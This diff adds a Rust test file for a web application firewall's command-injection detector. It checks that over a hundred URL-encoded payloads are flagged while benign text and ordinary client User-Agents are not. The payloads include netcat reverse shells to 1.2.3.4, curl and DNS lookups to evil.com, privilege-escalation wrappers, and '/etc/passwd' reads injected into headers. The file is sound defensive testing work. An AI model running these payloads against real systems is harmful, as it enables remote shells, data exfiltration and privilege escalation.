@@ -1,0 +1,208 @@
+//! Command injection: separators, wrappers, `sleep` and `nc` probes, and the User-Agent.
+
+use super::*;
+
+/// A line break ends a shell command as `;` does (the ping-form injection), `sleep` probes
+/// and `nc HOST PORT` are command injection; Markdown code fences and prose over several
+/// lines are not.
+#[test]
+fn line_breaks_sleep_and_netcat_are_command_separators() {
+    for attack in [
+        "/ping?host=127.0.0.1%0aid",
+        "/ping?host=127.0.0.1%0d%0aid",
+        "/a?c=x%0anc%20-e%20/bin/sh%201.2.3.4%2080",
+        "/a?c=x%0a%09bash%20-i",
+        "/a?c=x%3Bsleep%205",
+        "/a?c=x%7Csleep%205",
+        "/a?c=x%20%26%26%20sleep%205",
+        "/a?c=x%3Bsleep%24%7BIFS%7D5",
+        "/a?c=x%20%7C%20nc%20evil%2080",
+        "/a?c=x%0Aenv%20id",
+        "/a?c=x%0Atimeout%205%20id",
+        "/a?c=x%0Abusybox%20sh",
+        "/a?c=x%0Abusybox%20nc%201.2.3.4%2080%20-e%20sh",
+        "/a?c=x%0Anc.openbsd%201.2.3.4%2080",
+        "/a?c=x%0Adig%20evil.com",
+        "/a?c=x%0Ahost%20evil.com",
+        "/a?c=x%0Aping6%20-c%205%20::1",
+        "/a?c=x%0Aps%20aux",
+        "/a?c=x%0Aprintenv",
+        "/a?c=x%0Axargs%20id",
+        "/a?c=x%0Asu%20root",
+        // Black-box pass 7: wrappers with options, and more commands.
+        "/a?c=x%3Bnice%20-n%205%20sh",
+        "/a?c=x%3Beval%20id",
+        "/a?c=x%3Bsetsid%20id",
+        "/a?c=x%3Bchroot%20/%20id",
+        "/a?c=x%3Bdoas%20id",
+        "/a?c=x%3Bstrace%20id",
+        "/a?c=x%3Bionice%20-c%203%20id",
+        "/a?c=x%3Btaskset%201%20id",
+        "/a?c=x%3Bflock%20/tmp%20id",
+        "/a?c=x%3Bscript%20-c%20id",
+        "/a?c=x%3Btoybox%20id",
+        "/a?c=x%0Adrill%20evil.com",
+        "/a?c=x%0Agetent%20hosts%20evil.com",
+        "/a?c=x%3Bping6%20evil.com",
+        // Black-box pass 8: options after a wrapper, and more wrappers.
+        "/a?c=x%3Bnice%20-n5%20sh",
+        "/a?c=x%3Bnice%20--adjustment=5%20id",
+        "/a?c=x%3Btaskset%20-c%200%20id",
+        "/a?c=x%3Bsetsid%20-f%20id",
+        "/a?c=x%3Bcpulimit%20-l%205%20id",
+        "/a?c=x%3Bunshare%20id",
+        "/a?c=x%3Bnsenter%20-t%201%20id",
+        "/a?c=x%3Bpkexec%20id",
+        "/a?c=x%3Bvalgrind%20id",
+        "/a?c=x%3Brlwrap%20id",
+        "/a?c=x%3Bbuiltin%20exec%20id",
+        // Black-box pass 9: a wrapper's variables and users, and more commands.
+        "/a?c=x%3Benv%20A=b%20id",
+        "/a?c=x%3Benv%20-i%20PATH=/bin%20id",
+        "/a?c=x%3Bdoas%20-u%20root%20id",
+        "/a?c=x%3Bsudo%20-u%20root%20id",
+        "/a?c=x%3Bpkexec%20--user%20root%20id",
+        "/a?c=x%3Bgdb%20-ex%20%27!id%27",
+        "/a?c=x%3Bsshpass%20-p%20pw%20ssh%20h",
+        "/a?c=x%3Bexpect%20-c%20%27spawn%20x%27",
+        "/a?c=x%3Bfish%20-c%20id",
+        "/a?c=x%3Bfping%20evil.com",
+        "/a?c=x%3Bhping3%20evil.com",
+        "/a?c=x%3Bopenssl%20s_client%20-quiet%20evil.com:443",
+        // Black-box pass 10: assignments before a command, wrappers' long options, more wrappers.
+        "/a?c=x%3BA=b%20id",
+        "/a?c=x%3BPATH=%2Ftmp%20id",
+        "/a?c=x%3BIFS=%2C%20id",
+        "/a?c=x%3BA=b%20B=c%20sh%20-c%20id",
+        "/a?c=x%3BA=b%20curl%20evil.com",
+        "/a?c=x%3BA=b%20nc%20evil.com%201",
+        "/a?c=x%3Benv%20--%20whoami",
+        "/a?c=x%3Benv%20--ignore-environment%20id",
+        "/a?c=x%3Benv%20--chdir=%2F%20id",
+        "/a?c=x%3Benv%20--unset=X%20whoami",
+        "/a?c=x%3Benv%20A=%27b%20c%27%20id",
+        "/a?c=x%3Benv%20A=%22b%20c%22%20id",
+        "/a?c=x%3Bdoas%20-C%20%2Fetc%2Fdoas.conf%20id",
+        "/a?c=x%3Bdoas%20-s",
+        "/a?c=x%3Bexpect%20-f%20x.exp",
+        "/a?c=x%3Bexpect%20x.exp",
+        "/a?c=x%3Bexpect%20-d%20-c%20%27spawn%20x%27",
+        "/a?c=x%3Bexpect%20-nc%20%27spawn%20id%27",
+        "/a?c=x%3Bexpect%20-i",
+        "/a?c=x%3Bfish%20--command=id",
+        "/a?c=x%3Bfish%20-c%22id%22",
+        "/a?c=x%3Bfish%20-N%20-c%20id",
+        "/a?c=x%3Bfish%20-ic%20id",
+        "/a?c=x%3Bfish%20--no-config%20-c%20id",
+        "/a?c=x%3Bfish%20id.fish",
+        "/a?c=x%3Bfping6%20evil.com",
+        "/a?c=x%3Bhping%20evil.com",
+        "/a?c=x%3Bhping2%20evil.com",
+        "/a?c=x%3Bopenssl%20enc%20-d%20-in%20x",
+        "/a?c=x%3Bopenssl%20req%20-x509",
+        "/a?c=x%3Bnsenter%20--target=1%20--mount%20id",
+        "/a?c=x%3Btimeout%20--signal=9%205%20id",
+        "/a?c=x%3Bstdbuf%20--output=0%20id",
+        "/a?c=x%3Btaskset%20--cpu-list%200%20id",
+        "/a?c=x%3Bionice%20--class%203%20id",
+        "/a?c=x%3Bchroot%20--userspec=0%3A0%20%2F%20id",
+        "/a?c=x%3Bunshare%20--user%20--map-root-user%20id",
+        "/a?c=x%3Bsetsid%20--fork%20id",
+        "/a?c=x%3Bscript%20-qc%20id%20%2Fdev%2Fnull",
+        "/a?c=x%3Bscript%20--command%20id",
+        "/a?c=x%3Bsg%20wheel%20-c%20id",
+        "/a?c=x%3Bsetpriv%20--reuid%200%20id",
+        "/a?c=x%3Bcapsh%20--%20-c%20id",
+        "/a?c=x%3Bfirejail%20id",
+        "/a?c=x%3Bproot%20id",
+        "/a?c=x%3Bsystemd-run%20id",
+        "/a?c=x%3Bchrt%201%20id",
+        "/a?c=x%3Bnumactl%20-C%200%20id",
+        "/a?c=x%3Bfaketime%20%27x%27%20id",
+        "/a?c=x%3Btorsocks%20curl%20evil.com",
+        "/a?c=x%3Bproxychains%20curl%20evil.com",
+        "/a?c=x%3Bcatchsegv%20id",
+        "/a?c=x%3Bdbus-launch%20id",
+        "/a?c=x%3Bcommand%20-p%20id",
+    ] {
+        let r = get(attack);
+        assert!(
+            r.exceeded && r.findings.iter().any(|f| f.category == "rce"),
+            "{attack}: {r:?}"
+        );
+    }
+    for benign in [
+        "/a?notes=%23+Release+notes%0A%0A%60%60%60bash%0Acargo+build+--release%0A%60%60%60",
+        "/a?text=Dear+team%2C%0Aid+like+to+know+more.%0AThanks",
+        "/a?text=Shopping+list%3A%0Acat+food%0Atea",
+        "/a?text=Let+it+sleep+for+a+while",
+        "/a?text=host%3A+example.com%0Aport%3A+8080",
+        "/a?text=Ask+the+host+about+the+time.",
+        "/a?text=Shopping+list%3A%0Afish+-+2+kg%0Aexpect+delays",
+        "/a?text=Run+it+with+env+vars+set%3A+A%3Db",
+        "/a?text=Use+sudo+-u+postgres+psql+to+connect",
+        "/a?text=I+had+fish%3B+expect+more+tomorrow",
+        "/a?text=a%3D1%3B+b%3D2%3B+total%3D3",
+        "/a?text=Note%3A+x%3D5+id+est+the+fifth",
+        "/a?text=The+watch%3B+timeout+5+minutes+then+dinner",
+        "/a?text=menu%3A+fish%2C+chips%3B+time+for+tea",
+    ] {
+        let r = get(benign);
+        assert!(!r.exceeded, "{benign}: {r:?}");
+    }
+}
+
+/// At paranoia 2, a client's own name in the User-Agent (curl/8, Wget/1.21, git/2.43) is
+/// not a command (black-box pass 7, D1: every curl client was refused), as in CRS's 932239;
+/// a command after a separator there still is.
+#[test]
+fn client_names_in_the_user_agent_are_not_commands() {
+    let settings = Settings {
+        paranoia: 2,
+        detection_paranoia: 2,
+        inbound_threshold: 5,
+    };
+    let ua = |agent: &str| {
+        engine().inspect(
+            &Input {
+                method: "GET",
+                uri: "/a",
+                headers: &[("User-Agent", agent.as_bytes())],
+                body: None,
+                secret_fields: &[],
+            },
+            &settings,
+            &[],
+            None,
+        )
+    };
+    for agent in [
+        "curl/8.5.0",
+        "Wget/1.21.4",
+        "git/2.43.0",
+        "npm/10.2.4 node/v20.11.0 linux x64",
+        "pip/24.0",
+        "Java/17.0.9",
+        "docker/24.0.7 go/go1.21.5",
+        "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
+        // Bare client names (black-box pass 8): Ruby's Net::HTTP, Node's fetch.
+        "Ruby",
+        "node",
+        "python",
+        "perl",
+        "php",
+        "java",
+    ] {
+        let r = ua(agent);
+        assert!(!r.exceeded, "{agent}: {r:?}");
+    }
+    for agent in [
+        "curl/8.5.0; id",
+        "Mozilla/5.0 | cat /etc/passwd",
+        "x`whoami`",
+    ] {
+        let r = ua(agent);
+        assert!(r.exceeded, "{agent}: {r:?}");
+    }
+}
